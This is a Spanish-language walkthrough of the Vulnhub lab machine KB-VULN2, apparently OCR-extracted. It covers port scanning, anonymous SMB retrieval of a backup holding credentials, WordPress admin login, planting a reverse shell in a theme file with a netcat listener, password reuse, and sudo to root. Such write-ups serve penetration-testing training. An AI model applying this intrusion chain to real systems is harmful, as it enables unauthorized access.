Hoy vamos a hackear la maquina de Vulnhub llamada KB-VULN2. Podeis descargarla desde el siguiente enlace: KB-VULN2



Empezamos con un nmap para ver que puertos tiene abiertos.
~ > nmap -A -p-
Starting Nmap 7.70 ( https://nmap.org ) at 2020-09-28 11:45 CEST
Nmap scan report for
Host is up (0.0024s latency).
Not shown: 65530 closed ports
21/tcp  open  ftp         vsftpd 3.0.3
22/tcp  open  ssh         OpenSSH 7.6p1 Ubuntu 4ubuntu0.3 (Ubuntu Linux;
protocol 2.0)
| ssh-hostkey:
|   2048 5e:99:01:23:fe:c4:84:ef:14:55:87:da:a3:30:6f:50 (RSA)
|   256 cb:8e:e1:b3:3a:6e:64:9e:0f:53:39:7e:18:9d:8b:3f (ECDSA)
|_  256 ec:3b:d9:53:4a:5a:f7:32:f2:3a:f7:a7:6f:31:87:52 (ED25519)
80/tcp  open  http        Apache httpd 2.4.29 ((Ubuntu))
|_http-server-header: Apache/2.4.29 (Ubuntu)
|_http-title: Apache2 Ubuntu Default Page: It works
139/tcp open  netbios-ssn Samba smbd 3.X - 4.X (workgroup: WORKGROUP)
445/tcp open  netbios-ssn Samba smbd 4.7.6-Ubuntu (workgroup: WORKGROUP)
Service Info: Host: UBUNTU; OSs: Unix, Linux; CPE: cpe:/o:linux:linux_kernel

Host script results:|_clock-skew: mean: 0s, deviation: 1s, median: 0s
|_nbstat: NetBIOS name: UBUNTU, NetBIOS user: , NetBIOS MAC:
| smb-os-discovery:
|   OS: Windows 6.1 (Samba 4.7.6-Ubuntu)
|   Computer name: kb-server
|   NetBIOS computer name: UBUNTU\x00
|   Domain name: \x00
|   FQDN: kb-server
|_  System time: 2020-09-28T09:45:55+00:00
| smb-security-mode:
|   account_used: guest
|   authentication_level: user
|   challenge_response: supported
|_  message_signing: disabled (dangerous, but default)
| smb2-security-mode:
|   2.02:
|_    Message signing enabled but not required
| smb2-time:
|   date: 2020-09-28 11:45:54
|_  start_date: N/A

Service detection performed. Please report any incorrect results at
https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 20.51 seconds
Vemos que tiene el puerto de samba abierto, y tiene el directorio Anonymous, asi que nos conectamos.

~ > smbclient \\\\\\Anonymous
mkdir failed on directory /var/run/samba/msg.lock: Permiso denegado
Unable to initialize messaging context
Enter WORKGROUP\sml's password:
Try "help" to get a list of possible commands.
smb: \> dir
  .                                   D        0  Thu Sep 17 12:58:56 2020
  ..                                  D        0  Wed Sep 16 12:36:09 2020backup.zip                          N 16735117  Thu Sep 17 12:58:56 2020

        14380040 blocks of size 1024. 8497088 blocks available
smb: \>
Nos descargamos el fichero backup.zip.

smb: \> get backup.zip
getting file \backup.zip of size 16735117 as backup.zip (71995,1 KiloBytes/sec)
(average 71995,1 KiloBytes/sec)smb: \>
Lo extraemos.

~ > unzip backup.zip
Vemos que extrae una carpeta "wordpress" y el fichero remember_me.txt. Si miramos el fichero vemos que contiene unos credenciales...

~ > cat remember_me.txt
Por otro lado, usamos gobuster para ver si encontramos algun directorio interesante.

~ > gobuster dir -u -w
Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+] Url:
[+] Threads:        10
[+] Wordlist:
[+] Status codes:   200,204,301,302,307,401,403
[+] User Agent:     gobuster/3.0.1
[+] Timeout:        10s
2020/09/28 11:55:37 Starting gobuster
/.hta (Status: 403)
/.htaccess (Status: 403)
/.htpasswd (Status: 403)
/index.html (Status: 200)
/server-status (Status: 403)
/wordpress (Status: 301)
2020/09/28 11:55:39 Finished
Encontramos el directorio "wordpress". Visitamos http://kb-vuln/wordpress/wp-admin y nos logueamos usando los credenciales que hemos encontrado anteriormente.

Vamos a Themes y activamos el theme Twenty seventeen. Appearance -> Activate seventeen. Una vez activado vamos a Theme Editor y editamos el fichero header.php para agregarle una una reverse shell. Ponemos nc a la escucha.~ > nc -nlvp 1234
listening on [any] 1234 ...
Y visitamos: kb.vuln/wordpress/

Low Shell

~ > nc -nlvp 1234
listening on [any] 1234 ...
connect to [] from (UNKNOWN) [] 40476
Linux kb-server 4.15.0-117-generic #118-Ubuntu SMP Fri Sep 4 20:02:41 UTC 2020
x86_64 x86_64 x86_64 GNU/Linux
 10:09:56 up 24 min,  0 users,  load average: 0.01, 0.02, 0.09
USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT
uid=33(www-data) gid=33(www-data) groups=33(www-data)
/bin/sh: 0: can't access tty; job control turned off
$python3 -c 'import pty;pty.spawn("/bin/bash");'www-data@kb-server:/home/kbadmin$ ls
note.txt  user.txt
www-data@kb-server:/home/kbadmin$ cat user.txt
Exploramos el sistema y vemos que hay un usuario llamado kbadmin. Usamos la misma password que hemos usado para logarnos al wordpress pero esta vez para logarnos como el usuario kbadmin.

www-data@kb-server:/home/kbadmin$ su kbadmin
Password: MachineBoy141

Privile Escalation

Miramos si kbadmin puede usar sudo.kbadmin@kb-server:~$ sudo -l
Matching Defaults entries for kbadmin on kb-server:
    env_reset, mail_badpass,

User kbadmin may run the following commands on kb-server:
    (ALL : ALL) ALL
Vemos que puede hacer todo con sudo :)


kbadmin@kb-server:~$ sudo su
root@kb-server:/home/kbadmin# cd ~
root@kb-server:~# ls
root@kb-server:~# cat flag.txt


Y con esto ya seriamos root de la maquina.